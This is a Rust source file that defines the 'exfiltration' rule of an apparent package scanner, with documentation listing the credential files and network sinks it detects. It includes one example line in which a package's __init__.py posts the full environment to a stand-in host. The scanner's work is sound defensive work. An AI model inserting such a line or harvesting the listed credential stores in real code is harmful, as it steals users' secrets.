//! `exfiltration`: code collects credentials or the environment and sends data out (found by the archive scanner, `src/scan/`).

use super::RuleMeta;
use crate::finding::{Confidence, RuleId, Severity};

/// Rule metadata.
pub const META: RuleMeta = RuleMeta {
    id: RuleId::Exfiltration,
    summary: "Code collects credentials or the environment and sends data out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    docs: r#"# exfiltration

## What it does
Reports a file in the archive that reads a *source* of secrets — the whole environment, secret-named variables, credential files (ssh keys, `.pypirc`, `.netrc`, cloud, kube and docker config, git credentials, browser and wallet stores), or, where code runs on install or import, host and user details — and also has a *sink*: HTTP requests, raw sockets, DNS look-ups, or a known receiving host (chat webhooks, bot APIs, paste and file-drop sites, tunnels, request catchers, raw IP URLs). Severity follows where the file runs: `.pth` lines, `sitecustomize`, `setup.py` and a package's `__init__.py` are critical; other modules are high when the environment or a credential file is sent to a known receiver or nearby, medium otherwise; tests, docs and examples are not reported. The finding names both ends with their lines.

## Why it matters
Stolen credentials are what supply-chain attacks are for. Single strings mean little — most popular packages read `os.environ`, and cloud SDKs read `~/.aws/credentials` — but a package that gathers them and talks to the network in code that runs on install or import is the pattern of every credential stealer found on the index.

## Example
```python
# mypkg/__init__.py
import os, requests
requests.post("https://collector.example/c", json=dict(os.environ))
```

## How to fix
Do not install the release. If it is a dependency you trust, read the code at the reported lines; report malicious packages to the index's security team. A reviewed false positive can be allowed with `[[allow]]` (rule, package, version, `path` inside the archive, reason, expiry).
"#,
};
